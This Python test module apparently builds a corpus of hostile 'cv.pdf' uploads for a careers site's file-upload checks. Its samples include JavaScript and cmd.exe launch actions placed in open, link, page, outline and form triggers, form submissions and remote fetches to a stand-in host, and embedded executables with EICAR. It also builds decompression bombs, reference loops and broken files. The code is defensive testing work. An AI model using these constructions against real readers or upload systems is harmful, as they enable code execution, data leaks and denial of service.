"""PDF files that run, open, load, hide or never end, written by the library that also opens them."""

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.careers.factories import pdf_bytes
from tests.careers.uploads.corpus import SECRET, Hostile
from tests.careers.uploads.corpus.hostile_files import EICAR, with_place

FAR = "http://a.example/" + SECRET.decode()


def pdf(change=None, *, hidden=True, **saving) -> bytes:
    """One page; ``change(document)`` puts something into it. ``hidden`` packs its objects: no word is in clear."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(300, 300))
    page.Contents = document.make_stream(b"0 0 10 10 re f")
    if change is not None:
        change(document)
    packed = pikepdf.ObjectStreamMode.generate if hidden else pikepdf.ObjectStreamMode.disable
    made_of = io.BytesIO()
    document.save(made_of, object_stream_mode=packed, **saving)
    return made_of.getvalue()


def made():
    for family, actions in ACTIONS.items():
        for number, (name, action) in enumerate(actions.items()):
            # The first of each kind everywhere, the others where it is easiest.
            for place, put in list(PLACES.items())[: None if number == 0 else 1]:
                content = pdf(lambda document, put=put, action=action: put(document, action(document)))
                yield Hostile(family, f"{name} {place}", "cv.pdf", content)
    yield from _in_clear()
    yield from _whole()
    yield from _locked()
    yield from _broken()
    yield from _hidden()


def _script(document):
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('" + SECRET.decode() + "')"))


ACTIONS = {
    "PDF script": {
        "as text": _script,
        "as a stream": lambda d: Dictionary(S=Name.JavaScript, JS=d.make_stream(b"app.alert(1)" + SECRET)),
        "after another": lambda d: Dictionary(S=Name.GoTo, D=Array([0]), Next=_script(d)),
    },
    "PDF launch": {
        "program": lambda d: Dictionary(S=Name.Launch, F=String("cmd.exe " + SECRET.decode())),
        "other file": lambda d: Dictionary(S=Name.GoToR, F=String(FAR), D=Array([0])),
    },
    "PDF address": {
        "file": lambda d: Dictionary(S=Name.URI, URI=String("file:///c:/" + SECRET.decode())),
        "script": lambda d: Dictionary(S=Name.URI, URI=String("javascript:" + SECRET.decode())),
        "form": lambda d: Dictionary(S=Name.SubmitForm, F=String(FAR)),
    },
}


def _when_opened(document, action):
    document.Root.OpenAction = document.make_indirect(action)


def _when_pressed(document, action):
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    document.pages[0].Annots = Array([document.make_indirect(note)])


def _when_turned(document, action):
    document.pages[0].AA = Dictionary(O=action)


def _in_the_contents(document, action):
    item = Dictionary(Title=String("x"), A=document.make_indirect(action))
    document.Root.Outlines = document.make_indirect(Dictionary(First=document.make_indirect(item), Count=1))


def _in_a_form(document, action):
    box = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), Rect=Array([0, 0, 9, 9]))
    box.AA = Dictionary(K=action)
    box = document.make_indirect(box)
    document.Root.AcroForm = Dictionary(Fields=Array([box]))
    document.pages[0].Annots = Array([box])


PLACES = {
    "when opened": _when_opened,
    "when pressed": _when_pressed,
    "when turned": _when_turned,
    "in the contents": _in_the_contents,
    "in a form": _in_a_form,
}


def _in_clear():
    yield Hostile("PDF script", "in clear", "cv.pdf", pdf_bytes(b"\n<< /S /JavaScript /JS (app.alert(1)) >>"))
    yield Hostile("PDF launch", "in clear", "cv.pdf", pdf_bytes(b"\n<< /S /Launch /F (cmd.exe) >>"))


def _named(document):
    tree = Dictionary(Names=Array([String("x"), document.make_indirect(_script(document))]))
    document.Root.Names = Dictionary(JavaScript=tree)


def _attached(document, content=SECRET):
    stream = document.make_stream(content, Type=Name.EmbeddedFile)
    spec = document.make_indirect(Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=stream)))
    return spec


def _attached_to_all(document, content=SECRET):
    spec = _attached(document, content)
    document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x.exe"), spec])))


def _attached_to_page(document):
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=_attached(document))
    document.pages[0].Annots = Array([document.make_indirect(note)])


def _portfolio(document):
    _attached_to_all(document)
    document.Root.Collection = Dictionary(View=Name.D)


def _associated(document):
    document.Root.AF = Array([_attached(document)])


def _rich(kind):
    def put(document):
        note = Dictionary(Type=Name.Annot, Subtype=kind, Rect=Array([0, 0, 9, 9]), X=String(SECRET.decode()))
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return put


def _xfa(document):
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp>" + SECRET + b"</xdp>"))


def _fetched(document):
    stream = Stream(document, b"")
    stream.F = String(FAR)
    document.pages[0].Contents = document.make_indirect(stream)


def _whole():
    for family, name, change in (
        ("PDF script", "by name", _named),
        ("PDF with files in it", "of all", _attached_to_all),
        ("PDF with files in it", "of a page", _attached_to_page),
        ("PDF with files in it", "portfolio", _portfolio),
        ("PDF with files in it", "associated", _associated),
        ("PDF with films", "rich", _rich(Name.RichMedia)),
        ("PDF with films", "film", _rich(Name.Movie)),
        ("PDF with films", "sound", _rich(Name.Sound)),
        ("PDF with films", "screen", _rich(Name.Screen)),
        ("PDF with films", "space", _rich(Name("/3D"))),
        ("PDF form of another kind", "XFA", _xfa),
        ("PDF address", "content from elsewhere", _fetched),
        ("EICAR", "in a PDF", lambda document: _attached_to_all(document, EICAR)),
    ):
        yield Hostile(family, name, "cv.pdf", pdf(change))


def _locked():
    for name, passwords in (("both", ("a", "b")), ("owner only", ("a", "")), ("user only", ("", "b"))):
        for strength in (4, 6):
            lock = pikepdf.Encryption(owner=passwords[0], user=passwords[1], R=strength)
            yield Hostile("PDF encrypted", f"{name} {strength}", "cv.pdf", pdf(encryption=lock, hidden=False))


def _broken():
    whole = pdf(hidden=False)
    for share in (0.2, 0.5, 0.9):
        yield Hostile("PDF cut off", f"{share:.0%}", "cv.pdf", whole[: int(len(whole) * share)])
    yield Hostile("PDF cut off", "only its two ends", "cv.pdf", b"%PDF-1.7\n%%EOF\n")
    for name, start in (("to itself", b"9"), ("nowhere", b"99999999"), ("negative", b"-1")):
        content = b"%PDF-1.7\n%x\nxref\n0 0\ntrailer << /Prev 12 /Size 0 >>\nstartxref\n" + start + b"\n%%EOF\n"
        yield Hostile("PDF that never ends", f"table {name}", "cv.pdf", content)
    loop = (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Count 1 /Kids [2 0 R] >>"
    )
    tail = b" endobj\ntrailer << /Root 1 0 R /Size 3 >>\n%%EOF\n"
    yield Hostile("PDF that never ends", "pages in themselves", "cv.pdf", loop + tail)
    yield Hostile("PDF that never ends", "many pages", "cv.pdf", many_pages(300))
    deep = b"[" * 20_000 + b"]" * 20_000
    yield Hostile(
        "PDF that never ends", "lists in lists", "cv.pdf", pdf_bytes().replace(b"/Size 6", b"/Size 6 /X " + deep)
    )
    yield Hostile("PDF that blows up", "contents", "cv.pdf", bomb(200_000_000))
    yield Hostile("PDF that blows up", "contents, twice packed", "cv.pdf", bomb(200_000_000, twice=True))
    yield Hostile("PDF that blows up", "picture", "cv.pdf", pdf(_huge))


def many_pages(number: int) -> bytes:
    document = pikepdf.new()
    for _page in range(number):
        document.add_blank_page(page_size=(9, 9))
    made_of = io.BytesIO()
    document.save(made_of)
    return made_of.getvalue()


def bomb(size: int, *, twice=False) -> bytes:
    packed = zlib.compress(b" " * size, 9)
    filters = Array([Name.FlateDecode])
    if twice:
        packed, filters = zlib.compress(packed, 9), Array([Name.FlateDecode, Name.FlateDecode])

    def put(document):
        stream = Stream(document, b"")
        stream.write(packed, filter=filters)
        document.pages[0].Contents = document.make_indirect(stream)

    return pdf(put)


def _huge(document):
    picture = Stream(document, zlib.compress(b"\x00" * 1000))
    picture.Type, picture.Subtype, picture.ColorSpace = Name.XObject, Name.Image, Name.DeviceGray
    picture.Width, picture.Height, picture.BitsPerComponent = 60_000, 60_000, 8
    document.pages[0].Resources = Dictionary(XObject=Dictionary(I=document.make_indirect(picture)))


def _hidden():
    def meta(document):
        document.Root.Metadata = document.make_stream(b"<x>" + SECRET + b"</x>", Type=Name.Metadata, Subtype=Name.XML)
        document.docinfo["/Author"] = SECRET.decode()

    def page(document):
        document.pages[0].Thumb = document.make_stream(SECRET)
        document.pages[0].PieceInfo = Dictionary(A=Dictionary(Private=String(SECRET.decode())))

    def photo(document):
        picture = Stream(document, b"")
        picture.write(with_place(), filter=Name.DCTDecode)
        picture.Type, picture.Subtype, picture.ColorSpace = Name.XObject, Name.Image, Name.DeviceRGB
        picture.Width, picture.Height, picture.BitsPerComponent = 80, 60, 8
        document.pages[0].Resources = Dictionary(XObject=Dictionary(I=document.make_indirect(picture)))

    def writer(document):
        _when_pressed(document, Dictionary(S=Name.URI, URI=String("https://a.example/")))
        document.pages[0].Annots[0].T = String(SECRET.decode())

    yield Hostile("who made it", "PDF", "cv.pdf", pdf(meta))
    yield Hostile("who made it", "PDF page", "cv.pdf", pdf(page))
    yield Hostile("who made it", "PDF comment", "cv.pdf", pdf(writer))
    yield Hostile("EXIF", "in a PDF", "cv.pdf", pdf(photo))
